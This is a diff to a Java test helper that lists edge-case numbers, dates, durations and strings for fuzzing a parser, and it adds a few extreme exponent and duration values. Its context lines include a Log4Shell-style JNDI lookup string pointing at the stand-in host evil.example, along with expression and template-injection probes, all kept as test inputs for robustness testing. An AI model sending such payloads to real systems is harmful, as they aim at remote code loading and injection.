@@ -18,7 +18,7 @@ final class Mutations {
     static final List<String> EXTREME_NUMBERS = List.of(
             "NaN", "Infinity", "-Infinity", "1e1000000", "-1e1000000", "1e-1000000", "-0", "-0.0", "0e0",
             "2147483648", "-2147483649", "9223372036854775808", "-9223372036854775809", "1E400", "4.9e-325",
-            "1e2147483647", "1e-2147483647", "0x10", "1_000", "01", ".5", "5.", "+1",
+            "1e2147483647", "1e-2147483647", "0.1e-2147483648", "1e-2147483648", "1e2147483648", "0x10", "1_000", "01", ".5", "5.", "+1",
             "9".repeat(65), "1" + "0".repeat(10_000), "0." + "0".repeat(63) + "1");
 
     /** Strings at the edges: empty, control characters, lone surrogates, expressions, confusables, bad dates and periods. */
@@ -27,7 +27,7 @@ final class Mutations {
             "\"\\ufeff\"", "\"${java.version}\"", "\"#{7*7}\"", "\"{javax.validation.constraints.NotNull.message}\"",
             "\"${jndi:ldap://evil.example/a}\"", "\"\u0430gency\"", "\"a\\\\b\"", "\"\\\"\"", "\"\\/\"",
             "\"2026-02-30\"", "\"+999999999-12-31\"", "\"-999999999-01-01\"", "\"0000-00-00\"", "\"2026-2-3\"",
-            "\"P-1D\"", "\"PT-1S\"", "\"P0D\"", "\"PT0S\"", "\"P2147483647Y\"", "\"P-2147483648M\"",
+            "\"P-1D\"", "\"PT-1S\"", "\"P0D\"", "\"PT0S\"", "\"P2147483647Y\"", "\"P-2147483648M\"", "\"P999999999W\"",
             "\"PT9223372036854775807S\"", "\"P1Y-1M\"", "\"p1y\"", "\"us//tx\"", "\"/\"", "\"a/../b\"",
             "\"" + "x".repeat(70) + "\"", "\"" + "y".repeat(20_000) + "\"", "\"é\"", "\"e\u0301\"",
             "\"\uff45\uff4d\uff45\uff52\uff47\uff45\uff4e\uff43\uff59\"", "\"in-force\"", "\"IN_FORCE\"",
